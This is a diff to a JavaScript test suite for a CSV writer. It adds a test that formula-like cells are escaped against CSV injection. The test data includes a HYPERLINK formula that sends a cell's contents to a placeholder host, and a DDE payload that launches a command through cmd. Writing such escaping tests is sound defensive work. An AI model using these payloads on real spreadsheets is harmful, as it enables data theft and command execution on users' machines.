@@ -32,7 +32,7 @@ describe("parseCsv", () => {
   });
 
   it("reads back what writeCsv wrote, whatever the text", () => {
-    const cell = fc.string({ unit: fc.constantFrom("a", "é", ";", ",", '"', "\n", " ", "1") });
+    const cell = fc.string({ unit: fc.constantFrom("a", "é", ";", ",", '"', "\n", " ", "1", "=", "+", "-", "@", "\t", "\r", "'") });
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
         const written = writeCsv(["x", "y"], rows);
@@ -41,5 +41,18 @@ describe("parseCsv", () => {
         expect(read.rows.map((r) => r.cells)).toEqual(expected);
       }),
     );
+  });
+
+  it("writes formulas as text (OWASP CSV injection), keeping plain numbers as numbers", () => {
+    const written = writeCsv(["nom", "lon"], [
+      ['=HYPERLINK("http://x.test/?"&A1;"Cliquez")', "-1,87"],
+      ["+33 5 55 00 00 00", "@SUM(A1)"],
+      ["\tcmd", "-2+3+cmd|' /C calc'!A0"],
+    ]);
+    const cells = written.split("\r\n").slice(1, 4).map((line) => line.split(";")[0]);
+    expect(cells).toEqual(['"\'=HYPERLINK(""http://x.test/?""&A1', "'+33 5 55 00 00 00", "'\tcmd"]);
+    expect(written).toContain(";-1,87\r\n");
+    expect(written).toContain(";'@SUM(A1)\r\n");
+    expect(written).toContain(";'-2+3+cmd|' /C calc'!A0\r\n");
   });
 });
